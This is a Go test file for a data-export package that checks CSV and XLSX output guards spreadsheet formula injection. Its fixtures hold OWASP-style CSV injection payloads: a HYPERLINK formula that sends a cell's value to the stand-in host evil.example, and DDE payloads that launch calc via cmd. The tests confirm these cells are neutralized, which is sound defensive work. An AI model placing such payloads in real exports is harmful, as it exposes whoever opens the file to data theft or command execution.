package export

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/converge-dev/converge/warehouse"
)

// formulaQuery returns text cells a spreadsheet would run as formulas (OWASP's CSV Injection
// payloads), text that only looks like a number, and real negative numbers, a Decimal and a
// date next to them; its last column's name is a formula too.
const formulaQuery = `SELECT n, text, f, d, i, day, 0 AS "=1+1"
FROM values('n UInt8, text String, f Float64, d Decimal(9, 2), i Int64, day Date',
    (1, '=HYPERLINK("https://evil.example/?leak="&A2,"Click")', -12.5, -3.20, -7, '2026-01-05'),
    (2, '+cmd|'' /C calc''!A0', -0.5, 1234.50, 0, '2026-01-06'),
    (3, '-2+3+cmd|'' /C calc''!A0', 12.5, -0.01, -1, '2026-01-07'),
    (4, '@SUM(1+1)*cmd|'' /C calc''!A0', 0, 0, 1, '2026-01-08'),
    (5, '\t=1+1', 1e-7, 0.10, 2, '2026-01-09'),
    (6, '\r=1+1', -1e21, 0.20, 3, '2026-01-10'),
    (7, '-12.5', -12.5, -12.50, -12, '2026-01-11'),
    (8, ' =1+1 (a leading space is text to a spreadsheet)', 1, 1, 1, '2026-01-12'),
    (9, 'plain text, with a comma', 2, 2, 2, '2026-01-13'),
    (10, '', 3, 3, 3, '2026-01-14'))
ORDER BY n`

// TestFormulaGuardSQL: a query's text cells that a spreadsheet would run as a formula get a
// leading apostrophe in every CSV variant but raw CSV, decided by the column's type (a String
// column's "-12.5" is guarded, a Float64's -12.5 and a Decimal's -3.20 are not); the golden
// files hold the bytes.
func TestFormulaGuardSQL(t *testing.T) {
	st, _ := fixture(t)
	ctx := context.Background()
	variants := []struct {
		name string
		o    Options
	}{
		{"formula_sql.csv", Options{}},
		{"formula_sql_raw_values.csv", Options{Raw: true}},
		{"formula_sql_excel_de.csv", Options{Preset: "excel", Delimiter: ';', Decimal: ','}},
		{"formula_sql_csv_raw.csv", Options{Raw: true, CSVRaw: true}},
	}
	for _, v := range variants {
		t.Run(v.name, func(t *testing.T) {
			var buf bytes.Buffer
			m, err := SQL(ctx, st, warehouse.Console{}, formulaQuery, &buf, v.o)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, v.name, buf.Bytes())
			if m.Rows != 10 || m.Options.CSVRaw != v.o.CSVRaw {
				t.Errorf("manifest rows %d csv_raw %v", m.Rows, m.Options.CSVRaw)
			}
			guarded := strings.Count(buf.String(), "'=") + strings.Count(buf.String(), "'+") + strings.Count(buf.String(), "'-") +
				strings.Count(buf.String(), "'@") + strings.Count(buf.String(), "'\t") + strings.Count(buf.String(), "'\r=")
			// Seven formulas (six payloads and the column name) and the text "-12.5".
			if want := 8; !v.o.CSVRaw && guarded != want {
				t.Errorf("%d guarded cells, want %d:\n%s", guarded, want, buf.String())
			}
			if v.o.CSVRaw && strings.Contains(buf.String(), "'=") {
				t.Errorf("raw CSV changed the text:\n%s", buf.String())
			}
		})
	}
}

// TestFormulaGuardText: a page table's download guards its text columns and writes its
// numeric columns (formatted numbers, -€1,234.50, -12.5%) as they are; the header is text.
func TestFormulaGuardText(t *testing.T) {
	head := []string{"Channel", "Revenue", "Change", "@note"}
	numeric := []bool{false, true, true}
	rows := [][]string{
		{"=HYPERLINK(\"https://evil.example\",\"x\")", "-€1,234.50", "-12.5%", "-not a number: text"},
		{"-12.5", "-12.5", "+3.0%", "+1"},
		{"email", "€80.00", "0.0%", "ok"},
	}
	for _, c := range []struct {
		name string
		o    Options
	}{{"formula_text.csv", Options{}}, {"formula_text_csv_raw.csv", Options{CSVRaw: true}}} {
		var buf bytes.Buffer
		seq := func(yield func([]string, error) bool) {
			for _, r := range rows {
				if !yield(r, nil) {
					return
				}
			}
		}
		if _, err := Text(&buf, head, numeric, seq, c.o); err != nil {
			t.Fatal(err)
		}
		golden(t, c.name, buf.Bytes())
	}
}

// TestFormulaGuardXLSX: XLSX cells are typed, so a formula-looking text is a text cell as it
// is (no apostrophe), never a formula.
func TestFormulaGuardXLSX(t *testing.T) {
	st, _ := fixture(t)
	var buf bytes.Buffer
	if _, err := SQL(context.Background(), st, warehouse.Console{}, formulaQuery, &buf, Options{Format: XLSX}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, _ := f.GetCellValue(sheetName, "B2"); got != `=HYPERLINK("https://evil.example/?leak="&A2,"Click")` {
		t.Errorf("B2 = %q, want the text as stored", got)
	}
	if formula, _ := f.GetCellFormula(sheetName, "B2"); formula != "" {
		t.Errorf("B2 has the formula %q, want none", formula)
	}
	if typ, _ := f.GetCellType(sheetName, "C2"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
		t.Errorf("C2 (-12.5, a Float64) is text, want a number")
	}
}

// TestCSVRawOptions: raw CSV is refused with XLSX and with the excel preset, each naming csv_raw.
func TestCSVRawOptions(t *testing.T) {
	for _, o := range []Options{{CSVRaw: true, Format: XLSX}, {CSVRaw: true, Preset: "excel"}} {
		if err := o.Validate(); err == nil || !strings.HasPrefix(err.Error(), "csv_raw: ") {
			t.Errorf("%+v: err %v, want a csv_raw error", o, err)
		}
	}
	for _, c := range []struct {
		in   string
		risk bool
	}{{"=1", true}, {"+1", true}, {"-1", true}, {"@a", true}, {"\tx", true}, {"\rx", true}, {"", false}, {" =1", false}, {"a=1", false}, {"'=1", false}} {
		if got := FormulaRisk(c.in); got != c.risk {
			t.Errorf("FormulaRisk(%q) = %v, want %v", c.in, got, c.risk)
		}
		if want := map[bool]string{true: "'" + c.in, false: c.in}[c.risk]; GuardText(c.in) != want {
			t.Errorf("GuardText(%q) = %q, want %q", c.in, GuardText(c.in), want)
		}
	}
}
